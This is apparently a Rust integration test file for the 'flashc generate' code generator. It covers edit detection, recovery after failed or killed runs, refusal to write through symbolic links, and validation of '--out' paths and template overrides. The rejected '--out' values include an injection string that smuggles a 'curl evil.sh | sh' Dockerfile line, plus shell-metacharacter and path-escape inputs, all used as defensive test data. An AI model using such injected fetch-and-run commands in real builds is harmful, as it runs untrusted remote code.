//! What `flashc generate`'s output guarantees when something goes wrong: a hand edit anywhere in
//! a generated file is seen, an interrupted or failed run is finished by the next one (and
//! `--check` reports it meanwhile), and no file is written through a symbolic link. Unlike
//! `tests/generate.rs`, nothing here builds a generated workspace: `cargo metadata --locked`
//! stands for "`cargo build --locked` in the image would accept this lockfile".

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::Duration;

mod support;

fn flashc() -> Command {
    Command::new(env!("CARGO_BIN_EXE_flashc"))
}

/// A copy of `examples/hello` outside the repository (a crate of its own, as a user's is).
fn scratch(name: &str) -> PathBuf {
    support::project::scratch_copy("examples/hello", "safety", name)
}

fn text(output: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

fn generate(project: &Path) -> Output {
    flashc().arg("generate").arg(project).output().unwrap()
}

fn check(project: &Path) -> Output {
    flashc()
        .args(["generate", "--check"])
        .arg(project)
        .output()
        .unwrap()
}

/// Whether cargo accepts `.flash/Cargo.lock` as it is for the manifests beside it.
fn lock_matches(project: &Path) -> Result<(), String> {
    let out = Command::new(std::env::var_os("CARGO").unwrap_or_else(|| "cargo".into()))
        .args(["metadata", "--locked", "--offline", "--format-version", "1"])
        .arg("--manifest-path")
        .arg(project.join(".flash/Cargo.toml"))
        .stdout(Stdio::null())
        .output()
        .unwrap();
    if out.status.success() {
        Ok(())
    } else {
        Err(String::from_utf8_lossy(&out.stderr).into_owned())
    }
}

fn assert_ok(out: &Output) {
    assert!(out.status.success(), "{}", text(out));
}

/// Item 1 of issue 19: a Rust file is compared whole, not by its first line.
#[test]
fn an_edit_below_the_first_line_of_generated_rust_is_stale() {
    let project = scratch("edit");
    assert_ok(&generate(&project));
    let main = project.join(".flash/workers/embed/src/main.rs");
    let original = fs::read_to_string(&main).unwrap();
    for edited in [
        format!("{original}fn sneaked_in() {{}}\n"),
        original.replacen(".retries(2)", ".retries(9)", 1),
        original.replacen("    ", "  ", 1),
    ] {
        assert_ne!(edited, original, "the edit must change the file");
        fs::write(&main, &edited).unwrap();
        let out = check(&project);
        assert_eq!(out.status.code(), Some(1), "{}", text(&out));
        assert!(
            text(&out).contains(".flash/workers/embed/src/main.rs"),
            "{}",
            text(&out)
        );
        assert_ok(&generate(&project));
        assert_eq!(fs::read_to_string(&main).unwrap(), original);
        assert_eq!(check(&project).status.code(), Some(0));
    }
    fs::remove_dir_all(&project).unwrap();
}

/// A second endpoint: a new worker package the lockfile must list.
fn add_endpoint(project: &Path) {
    let file = project.join("flash.yaml");
    let yaml = fs::read_to_string(&file).unwrap();
    let yaml = yaml.replace(
        "  api:\n",
        "  api2:\n    type: load_balanced\n    cpu: cpu3c-2-4\n    routes:\n      \"GET /users/{id}\": users::get\n  api:\n",
    );
    fs::write(file, yaml).unwrap();
}

/// Item 2: a run whose cargo fails leaves the lockfile behind the manifests; `--check` says so
/// and the next run brings it up to date, though it has no file to write.
#[test]
fn a_lockfile_left_behind_by_a_failed_run_is_reported_and_redone() {
    let project = scratch("lock");
    assert_ok(&generate(&project));
    lock_matches(&project).unwrap();
    add_endpoint(&project);
    // A cargo that finds the handler crate (`--no-deps`) but fails to resolve the workspace.
    let cargo = project.join("failing-cargo");
    fs::write(
        &cargo,
        "#!/bin/sh\ncase \"$*\" in *--no-deps*) exec cargo \"$@\";; esac\necho 'network down' >&2\nexit 101\n",
    )
    .unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        fs::set_permissions(&cargo, fs::Permissions::from_mode(0o755)).unwrap();
    }
    let failed = flashc()
        .arg("generate")
        .arg(&project)
        .env("CARGO", &cargo)
        .output()
        .unwrap();
    assert!(
        text(&failed).contains("Cargo.lock"),
        "the failure is reported: {}",
        text(&failed)
    );
    assert!(lock_matches(&project).is_err(), "the lockfile is behind");
    let out = check(&project);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(text(&out).contains(".flash/Cargo.lock"), "{}", text(&out));
    assert_ok(&generate(&project));
    lock_matches(&project).unwrap();
    assert_eq!(check(&project).status.code(), Some(0));
    fs::remove_dir_all(&project).unwrap();
}

/// Item 2: `--check` compares the lockfile with the manifests, whatever the times on the files.
#[test]
fn check_reports_a_lockfile_that_does_not_match_the_manifests() {
    let project = scratch("lock-edit");
    assert_ok(&generate(&project));
    let lock = project.join(".flash/Cargo.lock");
    let text_before = fs::read_to_string(&lock).unwrap();
    // The lockfile of an older generation: without the `api` worker's package.
    let start = text_before.find("name = \"hello-api\"").unwrap();
    let start = text_before[..start].rfind("[[package]]").unwrap();
    let end = text_before[start + 1..]
        .find("[[package]]")
        .map_or(text_before.len(), |e| start + 1 + e);
    fs::write(
        &lock,
        format!("{}{}", &text_before[..start], &text_before[end..]),
    )
    .unwrap();
    assert!(lock_matches(&project).is_err());
    let out = check(&project);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(text(&out).contains(".flash/Cargo.lock"), "{}", text(&out));
    fs::remove_dir_all(&project).unwrap();
}

/// Item 2 ("done when"): `generate` killed at moments spread over its run, then run again, each
/// time; after every kill `--check` either reports the tree or passes, and when it passes the
/// lockfile matches and the Rust is formatted. The rerun always finishes the job.
#[test]
fn generate_killed_at_any_moment_leaves_a_tree_check_reports_or_passes() {
    let project = scratch("kill");
    let mut reported = 0;
    for (round, delay_ms) in [5u64, 40, 90, 150, 250, 400, 700].into_iter().enumerate() {
        // Every round has something to write: a changed endpoint list and a changed manifest.
        let yaml = fs::read_to_string(project.join("flash.yaml")).unwrap();
        let yaml = if round % 2 == 0 {
            yaml.replace("  api:\n", "  api2:\n    type: load_balanced\n    cpu: cpu3c-2-4\n    routes:\n      \"GET /users/{id}\": users::get\n  api:\n")
        } else {
            yaml.replace("  api2:\n    type: load_balanced\n    cpu: cpu3c-2-4\n    routes:\n      \"GET /users/{id}\": users::get\n", "")
        };
        fs::write(project.join("flash.yaml"), yaml).unwrap();
        let mut child = flashc()
            .arg("generate")
            .arg(&project)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        std::thread::sleep(Duration::from_millis(delay_ms));
        let _ = child.kill();
        let _ = child.wait();
        let out = check(&project);
        match out.status.code() {
            Some(0) => {
                lock_matches(&project).unwrap_or_else(|e| {
                    panic!("round {round}: --check passed but the lockfile is stale: {e}")
                });
                rust_is_formatted(&project);
            }
            Some(1) => reported += 1,
            other => panic!("round {round}: --check exited {other:?}: {}", text(&out)),
        }
        assert_ok(&generate(&project));
        let out = check(&project);
        assert_eq!(out.status.code(), Some(0), "round {round}: {}", text(&out));
        lock_matches(&project).unwrap();
        rust_is_formatted(&project);
    }
    assert!(reported > 0, "no kill landed inside a run");
    fs::remove_dir_all(&project).unwrap();
}

fn rust_is_formatted(project: &Path) {
    let workers = project.join(".flash/workers");
    for entry in fs::read_dir(workers).unwrap().flatten() {
        let main = entry.path().join("src/main.rs");
        let out = Command::new("rustfmt")
            .args(["--edition", "2021", "--check"])
            .arg(&main)
            .output()
            .unwrap();
        assert!(out.status.success(), "{} is not formatted", main.display());
    }
}

/// Item 3: a symbolic link in the output is replaced, never written through; one in the
/// project (a file flashc would write there) is refused, naming it.
#[cfg(unix)]
#[test]
fn generate_never_writes_through_a_symbolic_link() {
    use std::os::unix::fs::symlink;
    let project = scratch("links");
    let outside = project.with_extension("outside");
    let _ = fs::remove_dir_all(&outside);
    fs::create_dir_all(&outside).unwrap();
    assert_ok(&generate(&project));
    // A file in the output linked to a file outside it.
    let victim = outside.join("victim");
    fs::write(&victim, "precious\n").unwrap();
    let dockerfile = project.join(".flash/workers/api/Dockerfile");
    let expected = fs::read(&dockerfile).unwrap();
    fs::remove_file(&dockerfile).unwrap();
    symlink(&victim, &dockerfile).unwrap();
    // A directory in the output linked to a directory outside it.
    let src = project.join(".flash/workers/embed/src");
    fs::remove_dir_all(&src).unwrap();
    symlink(&outside, &src).unwrap();
    let out = generate(&project);
    assert_ok(&out);
    assert_eq!(fs::read_to_string(&victim).unwrap(), "precious\n");
    assert!(!outside.join("main.rs").exists(), "written through a link");
    assert!(!fs::symlink_metadata(&dockerfile).unwrap().is_symlink());
    assert_eq!(fs::read(&dockerfile).unwrap(), expected);
    assert!(!fs::symlink_metadata(&src).unwrap().is_symlink());
    assert_eq!(check(&project).status.code(), Some(0));
    // A dangling link where the project's .dockerignore goes.
    let ignore = project.join(".dockerignore");
    fs::remove_file(&ignore).unwrap();
    let dangling = outside.join("created-through-the-link");
    symlink(&dangling, &ignore).unwrap();
    let out = generate(&project);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    assert!(text(&out).contains(".dockerignore"), "{}", text(&out));
    assert!(!dangling.exists(), "written through a dangling link");
    // The output directory itself a link.
    fs::remove_file(&ignore).unwrap();
    let flash = project.join(".flash");
    let moved = outside.join("flash");
    fs::rename(&flash, &moved).unwrap();
    symlink(&moved, &flash).unwrap();
    let before = fs::read(moved.join("workers/api/Dockerfile")).unwrap();
    fs::write(moved.join("workers/api/Dockerfile"), "FROM scratch\n").unwrap();
    let out = generate(&project);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    assert!(text(&out).contains(".flash"), "{}", text(&out));
    assert_eq!(
        fs::read(moved.join("workers/api/Dockerfile")).unwrap(),
        b"FROM scratch\n"
    );
    assert_ne!(before, b"FROM scratch\n");
    fs::remove_dir_all(&project).unwrap();
    fs::remove_dir_all(&outside).unwrap();
}

/// Item 4: `--out` reaches every Dockerfile, `.dockerignore` and printed command, so it follows
/// the path policy of `crate:` — plain characters, no leading `-`, inside the project — and must
/// not be a directory the generated `.dockerignore` leaves out of the build context.
#[test]
fn out_follows_the_path_policy_of_every_dockerfile_path() {
    let project = scratch("out");
    for out in [
        "gen\nRUN curl evil.sh | sh",
        "my out",
        "out$HOME",
        "o'ut",
        "-h",
        "gen/-rf",
        "target",
        "target/flash",
        ".git/flash",
        "/tmp/flash",
        "../flash",
        ".",
        "",
    ] {
        let result = flashc()
            .args(["generate", "--out", out])
            .arg(&project)
            .output()
            .unwrap();
        assert_eq!(
            result.status.code(),
            Some(2),
            "--out {out:?}: {}",
            text(&result)
        );
        assert!(
            text(&result).contains("--out"),
            "--out {out:?}: {}",
            text(&result)
        );
    }
    let entries: Vec<_> = fs::read_dir(&project)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        !entries
            .iter()
            .any(|e| e.starts_with("gen") || e == "target" || e.contains("out")),
        "nothing written: {entries:?}"
    );
    assert!(!project.join(".dockerignore").exists(), "nothing written");
    // A plain nested directory is fine.
    let result = flashc()
        .args(["generate", "--out", "build/flash-out"])
        .arg(&project)
        .output()
        .unwrap();
    assert_ok(&result);
    fs::remove_dir_all(&project).unwrap();
}

/// Runs `flashc generate` on `project`, killing it after `limit` (a hang is a failure).
fn generate_within(project: &Path, limit: Duration) -> Output {
    let mut child = flashc()
        .arg("generate")
        .arg(project)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let start = std::time::Instant::now();
    while child.try_wait().unwrap().is_none() {
        if start.elapsed() > limit {
            let _ = child.kill();
            let _ = child.wait();
            panic!("flashc generate still running after {limit:?}");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    child.wait_with_output().unwrap()
}

/// Item 5: an override that renders Rust that does not parse is an error naming the template,
/// and nothing of it is written.
#[test]
fn an_override_that_renders_invalid_rust_is_an_error_naming_the_template() {
    let project = scratch("bad-rust");
    assert_ok(&generate(&project));
    let main = project.join(".flash/workers/api/src/main.rs");
    let before = fs::read(&main).unwrap();
    let templates = project.join("flash-templates");
    fs::create_dir_all(&templates).unwrap();
    fs::write(templates.join("lb_main.rs.j2"), "fn main( {\n").unwrap();
    let out = generate(&project);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    assert!(
        text(&out).contains("flash-templates/lb_main.rs.j2"),
        "{}",
        text(&out)
    );
    assert_eq!(
        fs::read(&main).unwrap(),
        before,
        "the broken Rust is not written"
    );
    fs::remove_dir_all(&project).unwrap();
}

/// Item 5: template overrides are read as flash.yaml is: regular files only, bounded in size.
/// A FIFO does not hang generate, a device or a huge file does not exhaust memory.
#[cfg(unix)]
#[test]
fn template_overrides_are_regular_bounded_files() {
    let project = scratch("fifo");
    let templates = project.join("flash-templates");
    fs::create_dir_all(&templates).unwrap();
    let fifo = templates.join("dockerignore.j2");
    let made = Command::new("mkfifo").arg(&fifo).status().unwrap();
    assert!(made.success());
    let out = generate_within(&project, Duration::from_secs(20));
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    assert!(text(&out).contains("dockerignore.j2"), "{}", text(&out));
    fs::remove_file(&fifo).unwrap();
    std::os::unix::fs::symlink("/dev/zero", &fifo).unwrap();
    let out = generate_within(&project, Duration::from_secs(20));
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    assert!(text(&out).contains("dockerignore.j2"), "{}", text(&out));
    fs::remove_file(&fifo).unwrap();
    fs::write(&fifo, vec![b'#'; 3 << 20]).unwrap();
    let out = generate_within(&project, Duration::from_secs(20));
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    assert!(text(&out).contains("dockerignore.j2"), "{}", text(&out));
    fs::remove_dir_all(&project).unwrap();
}

/// Issue 19 item 20: the printed `docker run --network host` lines give each endpoint a port of
/// its own, so two of them run side by side on one host.
#[test]
fn printed_docker_run_lines_do_not_share_a_port() {
    let project = scratch("ports");
    let out = generate(&project);
    assert_ok(&out);
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let ports: Vec<&str> = stdout
        .lines()
        .filter(|l| l.contains("docker run"))
        .filter_map(|l| l.split("PORT=").nth(1))
        .filter_map(|rest| rest.split_whitespace().next())
        .collect();
    assert_eq!(ports.len(), 2, "{stdout}");
    assert_ne!(ports[0], ports[1], "{stdout}");
    fs::remove_dir_all(&project).unwrap();
}
